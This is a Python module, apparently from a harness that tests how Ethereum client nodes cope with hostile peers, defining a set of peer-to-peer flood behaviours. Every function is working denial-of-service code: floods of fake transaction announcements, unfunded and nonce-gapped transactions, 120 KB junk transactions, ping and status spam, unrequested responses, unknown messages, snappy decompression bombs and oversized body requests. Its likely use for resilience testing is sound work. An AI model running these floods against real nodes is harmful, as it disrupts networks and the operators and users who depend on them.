"""Floods of messages of one kind."""

import os

import cramjam

from attack import behaviour
from made import dynamic_fee, sender_key, stranger_key
from rlp import encode
from wire import (
    ACCESS_LISTS, ANNOUNCE, BODIES, EMPTY, GET_BODIES, GET_POOLED, HEADERS, PING, PONG, POOLED, RANGE,
    RECEIPTS, STATUS, TRANSACTIONS,
)  # fmt: skip

# Hashes of an announcement just below the limit of 512 KiB.
ANNOUNCED = 13_000


def forever(attack, once):
    """An act that calls `once` with a session until the end."""

    def act(session):
        while attack.goes_on():
            once(session)

    return act


@behaviour("chain")
def announcements(attack):
    """Announces transactions that do not exist, half a megabyte at a time."""

    def once(session):
        hashes = [os.urandom(32) for _ in range(ANNOUNCED)]
        session.say(ANNOUNCE, bytes([2]) * ANNOUNCED, [200] * ANNOUNCED, hashes)

    attack.again(forever(attack, once))


@behaviour("chain")
def announced_again(attack):
    """Announces the same few transactions repeatedly."""
    hashes = [bytes([attack.index]) * 31 + bytes([n]) for n in range(256)]
    message = encode([bytes([2]) * 256, [200] * 256, hashes])
    attack.again(forever(attack, lambda session: session.send(ANNOUNCE, message)))


@behaviour("chain")
def transactions(attack):
    """Sends transactions from accounts without ether."""
    made = (stranger_transaction(attack, n) for n in range(10**9))

    def once(session):
        session.send(TRANSACTIONS, encode([next(made) for _ in range(100)]))

    attack.again(forever(attack, once))


def stranger_transaction(attack, n, data=b""):
    key = stranger_key(attack.index * 50 + n % 50)
    return dynamic_fee(key, attack.chain_id, n, data=data, gas=21_000 + 40 * len(data))[1]


@behaviour("chain")
def gapped_transactions(attack):
    """Sends transactions from accounts with ether, with nonces far ahead."""
    keys = [sender_key(10 + attack.index * 10 + n) for n in range(10)]

    def once(session, at=[0]):
        at[0] += 100
        batch = range(at[0], at[0] + 100)
        made = [dynamic_fee(keys[n % 10], attack.chain_id, 10_000 + n)[1] for n in batch]
        session.send(TRANSACTIONS, encode(made))

    attack.again(forever(attack, once))


@behaviour("chain")
def giant_transactions(attack):
    """Sends transactions of 120 KB of zeros that cannot be paid, 9 MB at a time."""
    data = bytes(120_000)

    def once(session, at=[0]):
        at[0] += 75
        made = [stranger_transaction(attack, at[0] + n, data) for n in range(75)]
        session.send(TRANSACTIONS, encode(made))

    attack.again(forever(attack, once))


@behaviour("chain")
def pings(attack):
    """Sends pings, and unrequested pongs."""

    def once(session):
        with session.lock:
            frames = (session.frame(id, EMPTY) for _ in range(100) for id in (PING, PONG))
            session.write(b"".join(frames))

    attack.again(forever(attack, once))


@behaviour("chain")
def ranges(attack):
    """Announces again and again that it has other blocks."""

    def once(session, at=[0]):
        at[0] += 1
        session.say(RANGE, 0, at[0], os.urandom(32))

    attack.again(forever(attack, once))


@behaviour("chain")
def statuses(attack):
    """Sends its status twice, and reconnects."""
    attack.again(forever(attack, lambda session: session.say(STATUS, *session.theirs)))


@behaviour("chain")
def unasked_answers(attack):
    """Sends unrequested responses of every kind in turns, and reconnects."""
    kinds = [HEADERS, BODIES, POOLED, RECEIPTS, ACCESS_LISTS]
    turn = [attack.index]

    def once(session):
        turn[0] += 1
        kind = kinds[turn[0] % len(kinds)]
        session.say(kind, turn[0], [bytes(1_000)] * 100)

    attack.again(forever(attack, once))


@behaviour("chain")
def unknown_messages(attack):
    """Sends messages that no protocol has, and reconnects."""
    attack.again(forever(attack, lambda session: session.send(0x7F, bytes(1_000))))


@behaviour("chain")
def bombs(attack):
    """Sends 10 MB of zeros in 500 KB as transactions and as announcements, and reconnects."""
    nothing = bytes(cramjam.snappy.compress_raw(bytes(10 << 20)))
    hashes = bytes(cramjam.snappy.compress_raw(announcement_of_one()))

    def once(session, at=[0]):
        at[0] += 1
        id, payload = ((TRANSACTIONS, nothing), (ANNOUNCE, hashes))[at[0] % 2]
        with session.lock:
            session.write(session.raw_frame(id, payload))

    attack.again(forever(attack, once))


def announcement_of_one():
    """Announces one hash, repeated up to the size limit."""
    return encode([bytes([2]) * ANNOUNCED, [200] * ANNOUNCED, [b"\x07" * 32] * ANNOUNCED])


@behaviour("chain")
def giant_requests(attack):
    """Requests 7,900 bodies and transactions at once that do not exist."""
    hashes = [os.urandom(32) for _ in range(7_900)]
    bodies, pooled = encode([1, hashes]), encode([2, hashes])

    def once(session):
        session.send(GET_BODIES, bodies)
        session.send(GET_POOLED, pooled)

    attack.again(forever(attack, once))
